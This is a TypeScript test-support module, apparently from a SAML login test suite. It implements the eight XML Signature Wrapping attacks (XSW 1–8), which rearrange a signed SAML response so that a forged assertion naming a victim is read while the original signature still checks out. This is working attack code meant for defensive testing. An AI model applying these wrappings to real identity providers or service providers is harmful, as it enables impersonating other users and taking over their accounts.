import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { newId } from '#tests/support/saml/saml_identity_provider'

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#'

export type Wrapping = {
  name: string
  /** What the provider signed in the answer that is wrapped. */
  signs: 'assertion' | 'response'
  wrap: (answer: string, victim: string) => string
}

/**
 * The eight wrappings of Somorovsky et al. (On Breaking SAML, 2012): the signed element stays
 * somewhere in the document, whole, and a reader who looks elsewhere finds the attacker's words.
 */
export const signatureWrappings: readonly Wrapping[] = [
  { name: 'XSW 1', signs: 'response', wrap: wrapResponse('inside the signature') },
  { name: 'XSW 2', signs: 'response', wrap: wrapResponse('before the signature') },
  { name: 'XSW 3', signs: 'assertion', wrap: wrapAssertion(forgedBefore) },
  { name: 'XSW 4', signs: 'assertion', wrap: wrapAssertion(forgedAround) },
  { name: 'XSW 5', signs: 'assertion', wrap: wrapAssertion(forgedWithSignature) },
  { name: 'XSW 6', signs: 'assertion', wrap: wrapAssertion(forgedWithSignatureAround) },
  { name: 'XSW 7', signs: 'assertion', wrap: wrapAssertion(forgedInExtensions) },
  { name: 'XSW 8', signs: 'assertion', wrap: wrapAssertion(signedInObject) },
]

type Parts = { root: Element; signed: Element; forged: Element }

/** Both responses live on; the root is the forged one. */
function wrapResponse(place: 'inside the signature' | 'before the signature') {
  return (answer: string, victim: string) => {
    const document = parse(answer)
    const root = document.documentElement!
    const original = root.cloneNode(true) as Element
    original.removeChild(childNamed(original, 'Signature'))
    root.setAttribute('ID', newId())
    rename(root, victim)
    const signature = childNamed(root, 'Signature')
    if (place === 'inside the signature') signature.appendChild(original)
    else root.insertBefore(original, signature)
    return write(document)
  }
}

function wrapAssertion(arrange: (parts: Parts) => void) {
  return (answer: string, victim: string) => {
    const document = parse(answer)
    const root = document.documentElement!
    const signed = childNamed(root, 'Assertion')
    const forged = signed.cloneNode(true) as Element
    forged.setAttribute('ID', newId())
    forged.removeChild(childNamed(forged, 'Signature'))
    rename(forged, victim)
    arrange({ root, signed, forged })
    return write(document)
  }
}

function forgedBefore({ root, signed, forged }: Parts): void {
  root.insertBefore(forged, signed)
}

function forgedAround({ root, signed, forged }: Parts): void {
  root.replaceChild(forged, signed)
  forged.appendChild(signed)
}

/** The signature moves into the forged assertion; the words it signs stand at the end. */
function forgedWithSignature({ root, signed, forged }: Parts): void {
  forged.insertBefore(childNamed(signed, 'Signature'), childNamed(forged, 'Subject'))
  root.insertBefore(forged, signed)
  root.removeChild(signed)
  root.appendChild(signed)
}

function forgedWithSignatureAround({ root, signed, forged }: Parts): void {
  const signature = childNamed(signed, 'Signature')
  root.replaceChild(forged, signed)
  forged.insertBefore(signature, childNamed(forged, 'Subject'))
  signature.appendChild(signed)
}

function forgedInExtensions({ root, signed, forged }: Parts): void {
  const extensions = root.ownerDocument.createElementNS(PROTOCOL, 'samlp:Extensions')
  extensions.appendChild(forged)
  root.insertBefore(extensions, signed)
}

function signedInObject({ root, signed, forged }: Parts): void {
  const object = root.ownerDocument.createElementNS(SIGNATURE, 'ds:Object')
  const signature = childNamed(signed, 'Signature')
  root.replaceChild(forged, signed)
  forged.insertBefore(signature, childNamed(forged, 'Subject'))
  signature.appendChild(object)
  object.appendChild(signed)
}

/** The attacker's whole gain: another person's name in the subject. */
function rename(element: Element, victim: string): void {
  const [name] = Array.from(element.getElementsByTagNameNS('*', 'NameID'))
  name!.textContent = victim
}

function childNamed(element: Element, name: string): Element {
  const found = Array.from(element.childNodes).find((node) => (node as Element).localName === name)
  return found as Element
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml')
}

function write(document: Document): string {
  return new XMLSerializer().serializeToString(document)
}
